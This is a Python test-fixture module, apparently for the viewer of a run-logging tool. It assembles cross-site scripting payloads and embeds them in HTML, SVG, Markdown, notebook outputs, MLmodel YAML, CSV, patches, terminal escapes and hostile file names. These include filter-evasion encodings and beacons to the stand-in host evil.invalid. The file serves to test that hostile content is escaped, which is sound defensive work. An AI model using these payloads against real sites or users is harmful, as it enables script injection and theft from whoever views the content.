"""What somebody could log to have code run in the browser of whoever looks at it.

Each text tries to set `pwned` on the window, on those around it, or to ask for an address with `pwned` in it.
"""

import base64
import json

from logged_run import notebook

ACT = "top.pwned=1;parent.pwned=1;window.pwned=1;new Image().src='//evil.invalid/pwned';fetch('/pwned')"
_ENTITIES = "".join(f"&#{ord(letter)};" for letter in "javascript:")
_PADDED = "".join(f"&#{ord(letter):07}" for letter in "javascript:")
_HEX = "".join(f"&#x{ord(letter):x};" for letter in "javascript:")

TEXTS = (
    f"<script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</textarea></title></style></pre><script>{ACT}</script>",
    f'"><img src=x onerror="{ACT}">',
    f"'><img src=x onerror='{ACT.replace(chr(39), chr(34))}'>",
    f"<svg/onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<math><mi xlink:href='javascript:{ACT}'>x</mi></math>",
    f"<iframe srcdoc='&lt;script&gt;{ACT}&lt;/script&gt;'></iframe>",
    f"<iframe src='javascript:{ACT}'></iframe>",
    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    "<style>@import '//evil.invalid/pwned';</style><link rel=stylesheet href=//evil.invalid/pwned>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/pwned'>",
    "<base href='//evil.invalid/pwned/'><a href=x>x</a>",
    "<form action=//evil.invalid/pwned><button autofocus>x</button></form>",
    "{{constructor.constructor('top.pwned=1')()}}",
    "${top.pwned=1}",
    "\u202e<script>top.pwned=1</script>\u2066",
    "\ufeff<script>top.pwned=1</script>",
    "\u2028<script>top.pwned=1</script>\u2029",
    "%3Cscript%3Etop.pwned=1%3C/script%3E",
    "&lt;script&gt;top.pwned=1&lt;/script&gt;",
    "\\u003cscript\\u003etop.pwned=1\\u003c/script\\u003e",
    "+ADw-script+AD4-top.pwned=1+ADw-/script+AD4-",
    "<scr<script>ipt>top.pwned=1</scr</script>ipt>",
    "<SCRIPT SRC=//evil.invalid/pwned></SCRIPT>",
    "javascript:top.pwned=1",
    "data:text/html,<script>top.pwned=1</script>",
    "constructor",
    "__proto__",
    "[object Object]",
)
"""For names, values and notes."""

_TARGETS = (
    f"javascript:{ACT}",
    "JaVaScRiPt:top.pwned=1",
    "java\tscript:top.pwned=1",
    "java\nscript:top.pwned=1",
    "\x01javascript:top.pwned=1",
    f"{_ENTITIES}top.pwned=1",
    f"{_PADDED}top.pwned=1",
    f"{_HEX}top.pwned=1",
    "javascript&colon;top.pwned=1",
    "java%0ascript:top.pwned=1",
    "data:text/html;base64," + base64.b64encode(f"<script>{ACT}</script>".encode()).decode(),
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>",
    "vbscript:top.pwned=1",
    "blob:null/pwned",
    "//evil.invalid/pwned",
    "\\\\evil.invalid\\pwned",
    "/\\evil.invalid/pwned",
    "https://user:word@evil.invalid/pwned",
    'x" onmouseover="top.pwned=1',
    "x' onerror='top.pwned=1",
)

MARKDOWN = "\n\n".join(
    [
        *TEXTS,
        *(f"[link {number}]({target})" for number, target in enumerate(_TARGETS)),
        *(f"[link <{number}>](<{target}>)" for number, target in enumerate(_TARGETS)),
        *(f"![image {number}]({target})" for number, target in enumerate(_TARGETS)),
        *(f"<{target}>" for target in _TARGETS),
        f"[ref]: javascript:{ACT}\n\n[ref]",
        f"```html\n<script>{ACT}</script>\n```",
        f"`<img src=x onerror={ACT}>`",
        f"| <script>{ACT}</script> |\n|---|\n| <img src=x onerror={ACT}> |",
        f"# <svg onload={ACT}>",
        f"@model:<img src=x onerror={ACT}>",
        "[" * 500 + "](javascript:top.pwned=1)" * 500,
        "![](http://evil.invalid/pwned.png)",
    ]
)

_SVG = f"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY x "<script>{ACT}</script>">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="40" onload="{ACT}">
<script>{ACT}</script><script xlink:href="//evil.invalid/pwned"/>
<a xlink:href="javascript:{ACT}"><rect width="80" height="40" fill="teal" onclick="{ACT}"/></a>
<image href="//evil.invalid/pwned" width="9" height="9"/><use href="//evil.invalid/pwned#x"/>
<foreignObject width="80" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{ACT}"/></body></foreignObject>
<animate attributeName="href" values="javascript:{ACT}"/><set attributeName="onmouseover" to="{ACT}"/>
</svg>"""

_HTML = (
    "<!doctype html><html><head><title>t</title></head><body><p>a page</p>"
    + "\n".join(TEXTS)
    + _SVG
    + "</body></html>"
)

NOTEBOOK = notebook(
    {"cell_type": "markdown", "metadata": {}, "source": MARKDOWN},
    {"cell_type": "raw", "metadata": {}, "source": f"<script>{ACT}</script>"},
    {
        "cell_type": "code",
        "execution_count": "<script>top.pwned=1</script>",
        "metadata": {},
        "source": f"<script>{ACT}</script>",
        "outputs": [
            {"output_type": "stream", "text": f"<script>{ACT}</script>"},
            {"output_type": "display_data", "data": {"text/html": _HTML}},
            {"output_type": "display_data", "data": {"text/html": [f"<img src=x onerror={ACT}>"]}},
            {"output_type": "display_data", "data": {"application/javascript": ACT}},
            {"output_type": "display_data", "data": {"image/svg+xml": _SVG}},
            {"output_type": "display_data", "data": {"image/png": f'"onerror="{ACT}"'}},
            {"output_type": "display_data", "data": {"text/markdown": MARKDOWN}},
            {
                "output_type": "display_data",
                "data": {"application/json": {"<script>": f"<script>{ACT}</script>"}},
            },
            {"output_type": "error", "ename": "<b>", "evalue": "x", "traceback": [f"<script>{ACT}</script>"]},
        ],
    },
)

_MLMODEL = f"""artifact_path: "<script>{ACT}</script>"
flavors:
  <img src=x onerror={ACT}>:
    loader_module: '<script>top.pwned=1</script>'
  python_function:
    python_version: <svg onload=top.pwned=1>
signature:
  inputs: '[{{"type": "<script>top.pwned=1</script>", "name": "<img src=x onerror=top.pwned=1>"}}]'
__proto__:
  polluted: true
"""

_WHOLE_MLMODEL = """artifact_path: model
flavors:
  python_function:
    loader_module: '<script>top.pwned=1</script>'
    python_version: '<svg onload=top.pwned=1>'
mlflow_version: '"><img src=x onerror=top.pwned=1>'
signature:
  inputs: '[{"type": "double", "name": "<img src=x onerror=top.pwned=1>", "required": true}]'
  outputs: '[{"type": "string", "name": "\\"><script>top.pwned=1</script>"}]'
  params: null
"""

_PATCH = f"""diff --git a/<script>{ACT.replace("/", "")}</script>.py b/<img src=x onerror=top.pwned=1>.py
--- a/x
+++ b/x
@@ -1 +1,2 @@
-<script>{ACT}</script>
+<img src=x onerror={ACT}>
+<svg onload={ACT}>
"""

_TABLE = "".join(f'"{text.replace(chr(34), chr(34) * 2)}",=1+1\n' for text in TEXTS)

FILES: dict[str, str | bytes] = {
    "page.html": _HTML,
    "utf16.html": f"<script>{ACT}</script>".encode("utf-16"),
    "utf7.html": "<meta charset=utf-7>+ADw-script+AD4-top.pwned=1+ADw-/script+AD4-",
    "quirk.htm": f"<table><script>{ACT}</script><td background='//evil.invalid/pwned'><a href='javascript:{ACT}' id=go>go</a>",
    "mutation.html": f'<svg></p><style><a id="</style><img src=1 onerror={ACT}>"><noscript><p title="</noscript><img src=x onerror={ACT}>">',
    "picture.svg": _SVG,
    "not_a_picture.png": _HTML,
    "not_a_film.mp4": _HTML,
    "not_a_document.pdf": _HTML,
    "notes.md": MARKDOWN,
    "nb.ipynb": NOTEBOOK,
    "model/MLmodel": _MLMODEL,
    "whole/MLmodel": _WHOLE_MLMODEL,
    "model/requirements.txt": f"<script>{ACT}</script>",
    "data.json": json.dumps({text: text for text in TEXTS}),
    "data.yaml": _MLMODEL,
    "table.csv": _TABLE,
    "change.patch": _PATCH,
    "code.py": f"'''<script>{ACT}</script>'''",
    "text.txt": "\n".join(TEXTS),
    "page.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{ACT}</script></html>',
    "broken.parquet": b"PAR1<script>top.pwned=1</script>\xff\xff\xff\x00PAR1",
    "context/diff.patch": _PATCH,
    "context/requirements.lock": f"<script>{ACT}</script>",
    "context/left_out.txt": f"<script>{ACT}</script>",
    "context/host.json": json.dumps({"<script>": f"<script>{ACT}</script>"}),
    "logs/console.log": f"\x1b]8;;javascript:{ACT}\x07link\x1b]8;;\x07\x1b[31m<script>{ACT}</script>\x1b[0m\n"
    + "\n".join(TEXTS),
}

FILE_NAMES = (
    "<img src=x onerror=top.pwned=1>.txt",
    '"><script>top.pwned=1<script>.md',
    "'onmouseover='top.pwned=1.json",
    "javascript:top.pwned=1.html",
    "%3Cscript%3Etop.pwned=1%3C%2Fscript%3E.txt",
    "&lt;img src=x onerror=top.pwned=1&gt;.csv",
    "\u202etxt.exe",
    "a?b#c&d=e.txt",
    "__proto__",
)
